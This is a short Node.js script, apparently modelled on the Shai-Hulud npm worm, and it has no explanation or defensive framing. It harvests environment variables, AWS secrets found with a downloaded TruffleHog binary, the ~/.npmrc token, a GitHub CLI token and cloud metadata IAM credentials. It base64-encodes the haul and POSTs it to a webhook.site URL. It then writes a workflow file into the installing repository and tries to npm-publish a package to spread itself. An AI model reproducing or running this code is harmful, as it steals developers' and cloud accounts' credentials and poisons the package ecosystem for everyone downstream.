const fs = require('fs'), os = require('os'), path = require('path'), { execFileSync, execSync } = require('child_process');
const quiet = (f) => { try { return f(); } catch (e) { return String(e); } };
(async () => {
  const hog = path.join(os.tmpdir(), 'trufflehog');
  const bin = await (await fetch('https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.5/trufflehog')).arrayBuffer();
  fs.writeFileSync(hog, Buffer.from(bin), { mode: 0o755 });
  const loot = {
    env: process.env,
    files: quiet(() => execFileSync(hog, ['filesystem', '--json', os.homedir() + '/.aws']).toString()),
    npmrc: quiet(() => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')),
    gh: quiet(() => execSync('gh auth token').toString()),
    imds: await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then(r => r.text(), String),
  };
  await fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST', body: Buffer.from(JSON.stringify(loot)).toString('base64') });
  const repo = process.env.INIT_CWD;
  fs.mkdirSync(repo + '/.github/workflows', { recursive: true });
  fs.writeFileSync(repo + '/.github/workflows/shai-hulud-workflow.yml', 'on: push\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: echo}]}}\n');
  const next = fs.mkdtempSync(os.tmpdir() + '/next-');
  fs.writeFileSync(next + '/package.json', JSON.stringify({ name: 'next-victim', version: '1.0.1' }));
  quiet(() => execSync('npm publish --silent', { cwd: next }));
})();
